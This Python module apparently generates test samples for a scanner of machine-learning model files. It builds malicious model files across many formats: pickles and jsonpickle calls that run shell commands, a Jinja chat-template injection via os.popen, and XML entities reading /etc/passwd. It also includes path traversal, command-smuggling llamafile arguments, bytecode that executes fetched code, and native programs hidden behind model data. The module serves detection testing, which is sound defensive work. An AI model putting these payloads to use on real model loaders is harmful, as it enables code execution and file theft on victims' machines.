"""Models of other makers that run something, or lead their readers out of their memory or folder."""

from __future__ import annotations

import json
import marshal
import struct
from collections.abc import Iterator
from importlib.util import MAGIC_NUMBER
from itertools import product

from evals import (
    bson_values,
    cntk_models,
    coreml_models,
    ggml_models,
    mindspore_models,
    mlir_programs,
    program_graphs,
    programs,
    tree_models,
    xml_models,
)
from evals.archives import zipped
from evals.data_files import FURTHER
from evals.flat_tables import Flat
from evals.gguf_files import gguf
from evals.mobile_networks import layer, mnn, ncnn, ncnn_text, operator
from evals.msgpack_values import flax, numpy_objects
from evals.opcodes import shell
from evals.protobufs import message, varint
from evals.samples import COMMAND, SOURCE, URL, Sample
from evals.stable_baselines import saved, serialized
from evals.torch7_objects import model

RUN, READ, ANY = ("process_exec",), ("file_read",), ()
PLACES = {
    "absolute": "/etc/passwd",
    "parent": "../../../etc/passwd",
    "drive": "C:\\Users\\x",
    "http": URL,
    "file": "file:///etc/passwd",
}
TEMPLATE = f"{{{{ cycler.__init__.__globals__.os.popen('{COMMAND}') }}}}"


# Data of which much lies beside models, with an end that is known.
_DATA = (
    "jpeg psd midi avi dicom nifti edf glb ply las shapefile idx stata sas recordio token-index "
    "kaldi-archive wandb-log apple-double"
).split()


def samples() -> Iterator[Sample]:
    """Yield the samples."""
    yield from _lua()
    yield from _julia()
    yield from _callbacks()
    yield from _bytecode()
    yield from _places()
    yield from _entities()
    yield from _trees()
    yield from _numbers()
    yield from _llamafiles()
    yield from _behind()
    yield from _agents()
    yield from _json_objects()
    yield from _functions_of_users()
    yield from _mindspore()
    array = {
        "zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "order": "C",
        "compressor": None, "filters": [{"id": "pickle", "protocol": 5}], "fill_value": None,
    }  # fmt: skip
    chunks = zipped({"w/.zarray": json.dumps(array).encode(), "w/0": shell(4)})
    yield Sample("zarr-pickled-chunk", "objects in zarr", RUN, ANY, chunks, "w.zarr.zip")
    for protocol in (0, 2, 4):
        for kind in (bytes, str):
            data = numpy_objects(shell(protocol), kind)
            title = f"msgpack-objects-{protocol}-{kind.__name__}"
            technique, loaders = "objects in MessagePack", ("msgpack_numpy",)
            yield Sample(title, technique, RUN, loaders, data, "m.msgpack")


def _agents() -> Iterator[Sample]:
    for protocol in (0, 2, 4):
        for key in ("policy_class", "lr_schedule", "note"):
            for padding in (0, 5 << 20):
                data = saved({key: serialized(shell(protocol))}, padding)
                title = f"sb3-{key}-{protocol}-{'long' if padding else 'short'}"
                loaders = ("stable_baselines3",)
                yield Sample(title, "values of an agent", RUN, loaders, data, "ppo.zip")


def _functions_of_users() -> Iterator[Sample]:
    """Functions of CNTK, which executes a text made of two names."""
    in_python, technique, loaders = (
        cntk_models.in_python,
        "functions of users",
        ("cntk.load_model",),
    )
    functions = {
        "module": in_python(f"os import getcwd; __import__('os').system({COMMAND!r}) #", "x"),
        "class": in_python("os", f"system\nsystem({COMMAND!r})"),
        "lines": in_python(f"os import path\nimport os\nos.popen({COMMAND!r})\nfrom os", "path"),
        "shell": in_python("subprocess", "getoutput"),
        "exec": in_python("builtins", f"exec as e; e({SOURCE!r})"),
        "state": in_python("os", "system", state=COMMAND),
    }
    for name, function in functions.items():
        for form in (cntk_models.cntk, _late, _twice):
            data = form(function)
            title = f"cntk-{name}{form.__name__.replace('cntk', '').replace('_', '-')}"
            yield Sample(title, technique, ANY, loaders, data, "net.dnn")
    data = cntk_models.of_two_gigabytes(cntk_models.cntk(functions["module"]))
    yield Sample("cntk-module-long", technique, RUN, loaders, data, "net.model")
    for library in ("/tmp/x.so", "../lib/x.so", "libc.so.6"):
        data = cntk_models.cntk(cntk_models.native(library, "system"))
        title = f"cntk-library-{library.strip('./').replace('/', '-')}"
        yield Sample(title, technique, ("native_code",), loaders, data, "net.dnn")


def _mindspore() -> Iterator[Sample]:
    loaders = ("mindspore.load",)
    script = f"__import__('os').system({COMMAND!r})"
    flags = (True, False)
    for runner, referring, inside in product(("PyExecute", "PyInterpret"), flags, flags):
        data = mindspore_models.executing(script, runner, referring, inside)
        title = f"mindir-{runner}-{referring}-{inside}"
        yield Sample(title, "Python in a graph", ("code_exec",), loaders, data, "m.mindir")
    for kind in ("aot", "akg", "julia", "pyfunc"):
        data = mindspore_models.custom(kind, func_name="./operators.so:run")
        yield Sample(
            f"mindir-custom-{kind}", "operators of libraries", ANY, loaders, data, "m.mindir"
        )
    for name, path in PLACES.items():
        data = mindspore_models.plain(path)
        yield Sample(f"mindir-{name}", "weights elsewhere", READ, loaders, data, "m.mindir")


def _late(function: bytes) -> bytes:
    """A function behind many others, inside of a block."""
    many = [cntk_models.nested({"uid": cntk_models.text(f"Times{at}")}) for at in range(3000)]
    block = {"block_function_composite": cntk_models.vector(function)}
    return cntk_models.cntk(*many, cntk_models.nested(block))


def _twice(function: bytes) -> bytes:
    """A function whose parts protobuf puts together: a harmless one stands before it."""
    return cntk_models.cntk(cntk_models.in_python("cntk.ops", "Plus") + function)


def _json_objects() -> Iterator[Sample]:
    """Objects that jsonpickle rebuilds by a call."""
    calls = {
        "function": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [COMMAND]}]},
        "type": {"py/reduce": [{"py/type": "subprocess.Popen"}, {"py/tuple": [[COMMAND]]}]},
        "object": {"py/object": "subprocess.Popen", "py/newargs": {"py/tuple": [[COMMAND]]}},
    }
    for name, value in calls.items():
        crowd = [{"py/object": f"sklearn.x.C{at % 9}"} for at in range(900)]
        data = json.dumps({"py/object": "model.Model", "layers": crowd, "rest": [value]})
        technique, loaders = "objects in JSON", ("jsonpickle",)
        yield Sample(f"jsonpickle-{name}", technique, RUN, loaders, data.encode(), "m.json")


def _lua() -> Iterator[Sample]:
    """Functions of Torch7: byte code of LuaJIT names what it calls among its constants."""
    loaders = ("torch.load of Torch7",)
    codes = {
        "execute": (b"\x1bLJ\x01\x02\x14" + COMMAND.encode() + b"\x0cexecute\x07os\x00", RUN),
        "execute-text": (f"return os.execute('{COMMAND}')".encode(), RUN),
        "popen": (f"return io.popen('{COMMAND}'):read()".encode(), RUN),
        "loadlib": (b"\x1bLJ\x01\x02\x0cloadlib\x0cpackage\x00", ("native_code",)),
        "ffi": (b"\x1bLJ\x01\x02\x09load\x08ffi\x00", ("native_code",)),
        "loadstring": (b"return loadstring(self.weight)()", ("code_exec",)),
        "remove": (b"os.remove('x')", ("file_delete",)),
    }
    for name, (code, effects) in codes.items():
        for text in (False, True):
            for kind in (6, 7, 8):
                title = f"torch7-{name}-{kind}-{'text' if text else 'binary'}"
                data = model(text, code, kind=kind)
                yield Sample(title, "functions of Lua", effects, loaders, data, "net.t7")


def _julia() -> Iterator[Sample]:
    technique, loaders = "functions of Julia", ("BSON.",)

    def called(module: str, name: str) -> bytes:
        code = bson_values.function(bson_values.global_reference(module, name))
        return bson_values.model(f=code)

    samples = {
        "run": (called("Base", "run"), RUN),
        "run-of-main": (called("Main", "run"), RUN),
        "eval": (called("Core", "eval"), ("code_exec",)),
        "include": (called("Base", "include_string"), ("code_exec",)),
        "library": (called("Libdl", "dlopen"), ("native_code",)),
        "fetch": (called("Base", "download"), ("network",)),
        "generator": (bson_values.generator(), RUN),
        "command": (bson_values.model(c=bson_values.command()), RUN),
        "reference": (bson_values.model(f={"tag": "ref", "path": ["Base", "run"]}), RUN),
    }
    for name, (data, effects) in samples.items():
        yield Sample(f"bson-{name}", technique, effects, loaders, data, "net.bson")


def _callbacks() -> Iterator[Sample]:
    call, effects = mlir_programs.CALLBACK, ("code_exec",)
    for name, data in {
        "text": mlir_programs.program(call),
        "generic": mlir_programs.program(call, generic=True),
        "bytecode": mlir_programs.bytecode(call),
        "exported": mlir_programs.exported(call),
    }.items():
        technique = "calls of StableHLO into Python"
        yield Sample(f"mlir-{name}", technique, effects, ("jax.",), data)


def _bytecode() -> Iterator[Sample]:
    sources = {
        "system": (SOURCE, RUN),
        "method": (f"class A:\n def f(s):\n  import os\n  os.popen({COMMAND!r})\nA().f()", RUN),
        "decoded": ("import base64\nexec(base64.b64decode('cGFzcw=='))\n", ("code_exec",)),
        "fetched": (
            f"from urllib.request import urlopen\nexec(urlopen({URL!r}).read())\n",
            ("network", "code_exec"),
        ),
    }
    for name, (source, effects) in sources.items():
        code = marshal.dumps(compile(source, "module.py", "exec"))
        for flags in (0, 1, 3):
            data = MAGIC_NUMBER + struct.pack("<I8x", flags) + code
            title = f"bytecode-{name}-{flags}"
            yield Sample(title, "compiled Python", effects, ANY, data, "module.pyc")


def _places() -> Iterator[Sample]:
    technique = "weights elsewhere"
    for name, path in PLACES.items():
        model_file = coreml_models.model(502, coreml_models.program(path))
        loaders = ("MLModel",)
        yield Sample(f"coreml-{name}", technique, READ, loaders, model_file, "m.mlmodel")
        linked = coreml_models.model(556, coreml_models.linked(path))
        yield Sample(f"coreml-linked-{name}", technique, READ, loaders, linked, "m.mlmodel")
        text = coreml_models.compiled(path)
        yield Sample(f"coreml-compiled-{name}", technique, READ, loaders, text, "model.mil")
        deep = coreml_models.model(202, coreml_models.pipeline(model_file))
        yield Sample(f"coreml-pipeline-{name}", technique, READ, loaders, deep, "m.mlmodel")
        data = mnn(operator(path=path))
        yield Sample(f"mnn-{name}", technique, READ, ("MNN",), data, "m.mnn")
        data = program_graphs.tfjs(path)
        yield Sample(f"tfjs-{name}", technique, READ, ("tf.load",), data, "model.json")
        data = program_graphs.paddle("load", file_path=path)
        yield Sample(f"paddle-load-{name}", technique, READ, ("paddle",), data, "m.pdmodel")
    data = program_graphs.paddle("save_combine", file_path="/etc/cron.d/x")
    yield Sample("paddle-save", technique, ("file_write",), ("paddle",), data, "m.pdmodel")
    data = program_graphs.paddle("py_func")
    yield Sample("paddle-function", technique, ("code_exec",), ("paddle",), data, "m.pdmodel")
    for name, write in {"text": program_graphs.caffe_text, "binary": program_graphs.caffe}.items():
        for module, layer_name in (("os", "system"), ("subprocess", "Popen")):
            data = write(module, layer_name)
            title = f"caffe-{module}-{name}"
            yield Sample(title, "layers in Python", ANY, ("caffe.Net",), data)


def _entities() -> Iterator[Sample]:
    nested = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 9 if at else "ha"}">' for at in range(9))
    types = {
        "file": ('<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', READ),
        "address": (f'<!DOCTYPE net [<!ENTITY x SYSTEM "{URL}">]>\n', ("network", "file_read")),
        "parameter": (f'<!DOCTYPE net [<!ENTITY % x SYSTEM "{URL}"> %x;]>\n', ANY),
        "nested": (f"<!DOCTYPE net [{nested}]>\n", ANY),
    }
    for name, (before, effects) in types.items():
        for maker, write in {"openvino": xml_models.openvino, "pmml": xml_models.pmml}.items():
            data = write(before=before)
            yield Sample(f"{maker}-entity-{name}", "entities in XML", effects, ANY, data)
    data = xml_models.openvino(before=types["file"][0]).decode().encode("utf-16")
    yield Sample("openvino-entity-utf-16", "entities in XML", READ, ANY, data, "m.xml")


def _trees() -> Iterator[Sample]:
    technique, loaders = "numbers of trees", ("xgboost",)
    forged = {
        "child": {"left_children": [7, -1, -1]},
        "negative": {"right_children": [-5, -1, -1]},
        "cycle": {"left_children": [1, 0, -1]},
        "feature": {"split_indices": [2_000_000_000, 0, 0]},
        "short": {"split_conditions": [0.5]},
        "nodes": {"tree_param": {"num_nodes": "900"}},
        "group": {"tree_info": [4]},
    }
    for name, changes in forged.items():
        for form, write in {"json": tree_models.as_json, "ubj": tree_models.as_ubjson}.items():
            data = write(tree_models.xgboost(**changes))
            yield Sample(f"xgboost-{name}-{form}", technique, ANY, loaders, data, f"m.{form}")
    for name, old in {"child": {"left": (9, -1, -1)}, "feature": {"split": (77, 0, 0)}}.items():
        data = tree_models.old_xgboost(**old)
        yield Sample(f"xgboost-{name}-old", technique, ANY, loaders, data, "m.model")
    texts = {
        "child": ("left_child=1 -1", "left_child=9 -1"),
        "leaf": ("right_child=-2 -3", "right_child=-2 -44"),
        "feature": ("split_feature=0 1", "split_feature=0 99"),
        "count": ("num_leaves=3", "num_leaves=30"),
        "twice": ("shrinkage=1", "shrinkage=1\nleaf_value=1 1 1"),
        "sizes": ("tree_sizes=453", "tree_sizes=453 453"),
    }
    for name, (old_text, new) in texts.items():
        data = tree_models.lightgbm(old_text, new)
        yield Sample(f"lightgbm-{name}", technique, ANY, ("lightgbm",), data, "model.txt")


def _numbers() -> Iterator[Sample]:
    technique = "numbers of graphs"
    graphs = {
        "mxnet-head": (program_graphs.mxnet(head=9), "mxnet"),
        "mxnet-input": (program_graphs.mxnet(source=5), "mxnet"),
        "mxnet-negative": (program_graphs.mxnet(source=-1), "mxnet"),
        "openvino-edge": (xml_models.openvino(edge=77), "openvino"),
        "openvino-offset": (xml_models.openvino(offset=-8), "openvino"),
        "openvino-size": (xml_models.openvino(size=1 << 50), "openvino"),
        "mnn-input": (mnn(operator(inputs=(7,))), "MNN"),
        "mnn-plugin-input": (mnn(operator(256, (1 << 30,), main=Flat({0: "p"}))), "MNN"),
        "ncnn-blob": (ncnn(layer(), layer(5, 1, first=1 << 20)), "ncnn"),
        "ncnn-blob-negative": (ncnn(layer(), layer(5, 1, first=-9)), "ncnn"),
        "ncnn-setting": (ncnn(layer(16, 0, -40, 1)), "ncnn"),
        "ncnn-text-blobs": (
            ncnn_text("Input a 0 1 a", "Split s 1 4 a b c d e", blobs=2),
            "ncnn",
        ),
        "ncnn-text-names": (ncnn_text("Input a 0 1 a", "ReLU r 1 9 a b 0=1", blobs=2), "ncnn"),
        "ncnn-text-setting": (ncnn_text("Input a 0 1 a -40=1", blobs=1), "ncnn"),
    }
    for name, (data, loader) in graphs.items():
        yield Sample(f"graph-{name}", technique, ANY, (loader,), data)


def _llamafiles() -> Iterator[Sample]:
    technique = "llamafiles"
    weights = gguf({"general.architecture": "llama"})
    program = programs.elf(2).ljust(4096, b"\0")
    for name, arguments in {
        "address": f"-m\n{URL}\n",
        "shell": f"-m\n$({COMMAND})\n",
        "backticks": f"-p\n`{COMMAND}`\n",
        "chained": f"-m\nmodel.gguf\n&& {COMMAND}\n",
    }.items():
        data = program + zipped({"model.gguf": weights, ".args": arguments.encode()})
        yield Sample(f"llamafile-{name}", technique, ANY, ANY, data, "m.llamafile")
    spoken = gguf({"general.architecture": "llama", "tokenizer.chat_template": TEMPLATE})
    data = program + zipped({"model.gguf": spoken, ".args": b"-m\nmodel.gguf\n"})
    yield Sample("llamafile-template", technique, ANY, ANY, data, "m.llamafile")
    data = program + zipped({"model.gguf": weights, "state.pkl": shell(2)})
    yield Sample("llamafile-pickle", technique, RUN, ANY, data, "m.llamafile")
    data = zipped({"model.gguf": weights + programs.elf(2)})
    yield Sample("gguf-in-zip-program", technique, ANY, ANY, data, "m.zip")


def _behind() -> Iterator[Sample]:
    """Programs and pickles behind the end of what a reader of the format reads."""
    fronts = {
        "coreml": coreml_models.PLAIN["network"],
        "coreml-weights": coreml_models.blobs(b"x" * 64),
        "catboost": tree_models.catboost(),
        "xgboost": tree_models.old_xgboost(),
        "msgpack": flax(),
        "mxnet-parameters": program_graphs.mxnet_weights((1.0, 2.0)),
        "paddle-parameters": program_graphs.paddle_weights((1.0, 2.0), (3.0,)),
        "ncnn-binary": ncnn(layer(), layer(5, 1)),
        "mnn": mnn(),
        "caffe": program_graphs.caffe(),
        "torch7": model(),
        "bson": bson_values.model(),
        **{name: FURTHER[name]() for name in _DATA},
        "ocdbt": b"\x0c\xdb\x3a\x2a" + struct.pack("<Q", 40) + b"\0\1" + bytes(26),
        **{f"ggml-{name}": data for name, data in ggml_models.HONEST.items()},
    }
    for name, front in fronts.items():
        data = front + shell(4)
        yield Sample(f"behind-{name}-pickle", "content behind a model", RUN, ANY, data)
        for kind in ("elf", "pe", "mach-o"):
            title = f"behind-{name}-{kind}"
            data = front + programs.PROGRAMS[kind]
            native = ("native_code",)
            yield Sample(title, "programs behind a model", native, ANY, data)
    for name, content in {"pickle": shell(4), **programs.PROGRAMS}.items():
        if name in ("pickle", "elf", "pe", "mach-o"):
            effects = RUN if name == "pickle" else ("native_code",)
            data, title = _checkpoint(content), f"checkpoint-index-{name}"
            yield Sample(title, "content inside an index", effects, ANY, data, "m.ckpt.index")


def _checkpoint(hole: bytes = b"") -> bytes:
    """An index of TensorFlow's checkpoints with one tensor (TensorFlow, table_format.txt)."""

    def entry(key: bytes, value: bytes) -> bytes:
        return varint(0) + varint(len(key)) + varint(len(value)) + key + value

    def block(*entries: bytes) -> bytes:
        return b"".join(entries) + struct.pack("<2I", 0, 1)

    def handle(start: int, size: int) -> bytes:
        return varint(start) + varint(size)

    shape = message((2, message((1, 3))))
    tensor = message((1, 1), (2, shape), (5, 12), (6, 0))
    head = message((1, 1), (3, message((1, 1))))
    first = block(entry(b"", head), entry(b"w", tensor))
    out = first + b"\0" + bytes(4) + hole
    places = []
    for content in (block(), block(entry(b"x", handle(0, len(first))))):
        places.append(handle(len(out), len(content)))
        out += content + b"\0" + bytes(4)
    footer = b"".join(places).ljust(40, b"\0")
    return out + footer + struct.pack("<Q", 0xDB4775248B80FB57)
